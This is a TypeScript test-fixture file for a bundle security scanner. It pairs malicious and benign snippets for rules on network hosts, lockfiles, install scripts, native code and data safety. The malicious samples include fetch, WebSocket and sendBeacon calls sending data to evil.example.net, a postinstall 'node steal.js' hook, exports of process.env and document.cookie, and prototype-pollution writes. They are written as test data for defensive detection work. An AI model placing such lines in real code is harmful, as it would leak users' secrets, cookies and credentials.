// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the placeholders belong to the programs under test
import type { Files, RuleCase } from './rule-case.js';
import { js } from './rule-case.js';

const integrity = `sha512-${'A'.repeat(86)}==`;
const from = (name: string): string => `https://registry.npmjs.org/${name}/-/${name.split('/').at(-1)}-1.0.0.tgz`;
const honest = { version: '1.0.0', resolved: from('left'), integrity };

const lock = (packages: Record<string, unknown>, lockfileVersion = 3): Files => ({
  'package-lock.json': JSON.stringify(
    { name: 'app', lockfileVersion, packages: { '': { name: 'app' }, ...packages } },
    null,
    2,
  ),
});
const pack = (members: Record<string, unknown>): Files => ({
  'package.json': JSON.stringify({ name: 'app', ...members }, null, 2),
});
const left = (members: Record<string, unknown>): Files => lock({ 'node_modules/left': { ...honest, ...members } });

/** Network_hosts, dependencies, install_scripts, files and data_safety. */
export const bundleCases: Record<string, RuleCase> = {
  undeclared_host: {
    malicious: [
      js("fetch('https://evil.example.net/c')"),
      js("const base = 'https://evil.example.net'; fetch(base + '/c?' + data)"),
      js('fetch(`https://evil.example.net/${data}`)'),
      js("import https from 'node:https'; https.request({ hostname: 'evil.example.net' })"),
      js("import { get } from 'https'; get('https://evil.example.net')"),
      js("new WebSocket('wss://evil.example.net')"),
      js("navigator.sendBeacon('//evil.example.net/c', data)"),
      js("const x = new XMLHttpRequest(); x.open('POST', 'https://evil.example.net')"),
      js("fetch('https://api.example.com@evil.example.net/')"),
      js("fetch('https://api.example.com.evil.example.net/')"),
      js("fetch(new URL('/c', 'https://evil.example.net'))"),
      js("fetch('https://cdn.example.com/x')"),
    ],
    benign: [
      js("fetch('https://api.example.com/orders')"),
      js('fetch(`https://api.example.com/orders/${id}`)'),
      js("fetch('https://a.cdn.example.com/x.png')"),
      js("fetch('/apps/proxy')"),
      js("fetch('https://souk.example/apps/2026-10/orders')"),
      js("const docs = 'https://docs.example.net/help'; show(docs)"),
      js("const fetch = (path) => path; fetch('https://evil.example.net')"),
      js("const dialog = {}; dialog.open('welcome', 'https://docs.example.net')"),
    ],
  },
  computed_host: {
    malicious: [js('fetch(address)'), js('fetch(`https://${host}/c`)'), js("fetch('https://api.exam' + rest)")],
    benign: [js("const base = 'https://api.example.com/v1/'; fetch(base + id)")],
  },
  raw_socket: {
    malicious: [js("import net from 'node:net'"), { 'main.cjs': "require('dns')" }],
    benign: [js("import { net } from './totals.js'; use(net)")],
  },
  lockfile_unreadable: {
    malicious: [{ 'package-lock.json': 'not json' }, lock({}, 1), { 'package-lock.json': '{"lockfileVersion":3}' }],
    benign: [lock({}), lock({}, 2)],
  },
  missing_integrity: {
    malicious: [left({ integrity: undefined }), left({ integrity: 'sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk=' })],
    benign: [left({}), left({ resolved: undefined })],
  },
  outside_registry: {
    malicious: [
      left({ resolved: 'https://evil.example.net/left.tgz' }),
      left({ resolved: 'https://registry.npmjs.org.evil.example.net/left/-/left-1.0.0.tgz' }),
      left({ resolved: 'http://registry.npmjs.org/left/-/left-1.0.0.tgz' }),
    ],
    benign: [left({ resolved: 'https://registry.yarnpkg.com/left/-/left-1.0.0.tgz' })],
  },
  unpublished_dependency: {
    malicious: [
      left({ resolved: 'git+ssh://git@example.net/left.git#abc' }),
      left({ resolved: 'file:../left' }),
      left({ resolved: '../left', link: true }),
    ],
    benign: [lock({ 'node_modules/@scope/gitlog': { ...honest, resolved: from('@scope/gitlog') } })],
  },
  disguised_package: {
    malicious: [left({ resolved: from('right') }), left({ resolved: from('%zz') })],
    benign: [lock({ 'node_modules/a/node_modules/@s/left': { ...honest, resolved: from('@s/left') } })],
  },
  loose_dependency: {
    malicious: [
      pack({ dependencies: { left: 'git+https://example.net/left.git' } }),
      pack({ dependencies: { left: '*' } }),
      pack({ devDependencies: { left: 'someone/left' } }),
    ],
    benign: [{ ...pack({ dependencies: { left: '^1.0.0' } }), ...left({}) }],
  },
  unlocked_code: {
    malicious: [
      js('// node_modules/left/index.js\nexport const left = 1;'),
      js('// ../../node_modules/.pnpm/left@1.0.0/node_modules/left/index.mjs\nexport const left = 1;'),
      js('const modules = {\n  "./node_modules/@scope/left/index.js": (module) => {},\n};'),
      { 'main.js.map': JSON.stringify({ version: 3, sources: ['../node_modules/left/index.js'], mappings: '' }) },
      { ...js('// node_modules/right/index.js\nexport const right = 1;'), ...left({}) },
      { ...js('// node_modules/left/index.js\nexport const left = 1;'), ...left({ dev: true }) },
    ],
    benign: [
      { ...js('// node_modules/left/index.js\nexport const left = 1;'), ...left({}) },
      {
        ...js('/* node_modules/real/lib/a.js */ export const a = 1;'),
        ...lock({ 'node_modules/left': { ...honest, name: 'real', resolved: undefined } }),
      },
      js('// src/totals.js\nexport const total = 1; // see node_modules/ for more'),
    ],
  },
  unlocked_dependency: {
    malicious: [
      pack({ dependencies: { left: '^1.0.0' } }),
      { ...pack({ dependencies: { right: '1.x' } }), ...left({}) },
      { ...pack({ dependencies: { left: '1.x' } }), ...left({ dev: true }) },
    ],
    benign: [{ ...pack({ dependencies: { left: '1.x' } }), ...left({}) }, pack({ devDependencies: { left: '1.x' } })],
  },
  empty_lockfile: {
    malicious: [{ ...lock({}), ...js(`export const a = [\n${"  'a short line of text',\n".repeat(12_000)}];`) }],
    benign: [{ ...left({}), ...js(`export const a = [\n${"  'a short line of text',\n".repeat(12_000)}];`) }, lock({})],
  },
  too_much_source: {
    malicious: [
      Object.fromEntries(
        Array.from({ length: 12 }, (_, at) => [
          `part-${at}.js`,
          `export const a = [\n${"  'a short line of text',\n".repeat(36_000)}];`,
        ]),
      ),
    ],
    benign: [js('export const a = 1;')],
  },
  install_script: {
    malicious: [
      pack({ scripts: { postinstall: 'node steal.js' } }),
      { 'tools/package.json': '{"scripts":{"prepare":"x"}}' },
    ],
    benign: [pack({ scripts: { start: 'node main.js', test: 'vitest' } })],
  },
  dependency_install_script: {
    malicious: [left({ hasInstallScript: true })],
    benign: [left({ hasInstallScript: false }), left({ hasInstallScript: true, dev: true })],
  },
  native_code: {
    malicious: [
      { 'a.bin': Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0]) },
      { 'build/addon.node': 'x' },
      { 'tool.dat': Buffer.from([0x4d, 0x5a, 0, 0]) },
    ],
    benign: [{ 'icon.png': Buffer.from([0x89, 0x50, 0x4e, 0x47, 0]) }, { 'letter.txt': 'MZ is how it starts' }],
  },
  oversize_file: {
    malicious: [{ 'big.bin': Buffer.alloc(5 * 1024 * 1024 + 1) }, js(`// ${'word '.repeat(220_000)}`)],
    benign: [{ 'photo.bin': Buffer.alloc(1024 * 1024) }],
  },
  installed_modules: {
    malicious: [{ 'node_modules/left/index.js': 'export {}' }, { 'a/node_modules/b.json': '{}' }],
    benign: [{ 'src/node_modules.js': 'export {}' }],
  },
  nested_archive: {
    malicious: [{ 'more.zip': 'x' }, { 'data.bin': Buffer.from([0x1f, 0x8b, 8, 0]) }],
    benign: [{ 'zip-codes.csv': 'a,b' }],
  },
  prototype_write: {
    malicious: [js('a.__proto__.admin = true'), js("a['__pro' + 'to__'] = b"), js('Object.assign(a.__proto__, b)')],
    benign: [js("if (key === '__proto__') skip()"), js('const o = Object.create(null); o.admin = true')],
  },
  built_in_change: {
    malicious: [
      js('Array.prototype.map = spy'),
      js("Object.defineProperty(Object.prototype, 'a', b)"),
      js('window.Response.prototype.json = spy'),
    ],
    benign: [js('class Cart {}\nCart.prototype.total = sum'), js('const Map = class {}; Map.prototype.a = 1')],
  },
  unguarded_merge: {
    malicious: [
      js('function merge(a, b) { for (const k in b) { if (isObject(b[k])) merge(a[k], b[k]); else a[k] = b[k]; } }'),
    ],
    benign: [
      js(
        "function merge(a, b) { for (const k in b) { if (k === '__proto__') continue; if (isObject(b[k])) merge(a[k], b[k]); else a[k] = b[k]; } }",
      ),
      js('function copy(a, b) { for (const k in b) a[k] = b[k]; }'),
    ],
  },
  environment_export: {
    malicious: [
      js('send(JSON.stringify(process.env))'),
      js('const all = { ...process.env }'),
      js("import { env } from 'node:process'; const { A, ...rest } = process.env; use(env, A, rest)"),
      js('Object.entries(process.env)'),
    ],
    benign: [
      js('const port = process.env.PORT'),
      js('const { PORT, HOST } = process.env'),
      js("if ('CI' in process.env) quiet()"),
      js('const value = process.env[name]'),
    ],
  },
  cookie_read: {
    malicious: [js('send(document.cookie)'), js("window.document['cookie']")],
    benign: [js('const jar = { cookie: 1 }; jar.cookie')],
  },
};
